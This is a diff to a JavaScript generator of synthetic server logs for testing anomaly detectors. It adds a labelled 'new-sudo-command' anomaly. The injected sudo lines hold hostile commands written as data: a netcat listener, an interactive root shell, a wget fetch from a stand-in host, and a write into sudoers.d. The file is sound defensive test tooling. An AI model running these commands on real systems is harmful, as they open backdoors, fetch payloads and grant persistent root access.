@@ -7,7 +7,8 @@
 // users (a few tries to a few dozen, seconds apart), sprays of single tries at root from many addresses, scanners.
 //
 // Anomalies (each labelled with its detector, key, and when it starts and becomes visible):
-// success-after-failures, new-login-source, unusual-time, spike, distributed-attack, slow-attack, source-quiet.
+// success-after-failures, new-login-source, new-sudo-command, unusual-time, spike, distributed-attack, slow-attack,
+// source-quiet.
 
 export function mulberry32(seed) {
   let a = seed >>> 0;
@@ -281,6 +282,21 @@ export function generateHost({ host = 'web1', hostIndex = 0, weeks = 6, seed = 1
     labels.push({ kind: 'new-login-source', key: { user: user.name }, start: at, visible: at });
   }
 
+  // new-sudo-command: two commands never run through sudo by their users, once the 30 days of learning are over.
+  const sudoers = active.filter((u) => u.sudo);
+  for (let k = 0; k < 2 * Math.max(0, weeks - 5) && sudoers.length > 0; k++) {
+    const user = pick(sudoers);
+    const day = pick(weekdaysFrom(Math.max(31, anomalyFrom)));
+    const at = START + day * DAY + (user.start + 1 + rnd() * (user.length - 2)) * HOUR;
+    const command = pick([
+      '/usr/bin/nc -lvnp 4444',
+      '/bin/bash -i',
+      '/usr/bin/wget http://198.51.100.66/x',
+      '/usr/bin/tee /etc/sudoers.d/zz',
+    ]);
+    emit(at, 'sudo', `    ${user.name} : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=${command}`);
+    labels.push({ kind: 'new-sudo-command', key: { user: user.name }, start: at, visible: at });
+  }
   // source-quiet: the log stops being written for two to four hours (rsyslog died, the disk filled), once a week.
   const silences = [];
   const injected = [...labels];
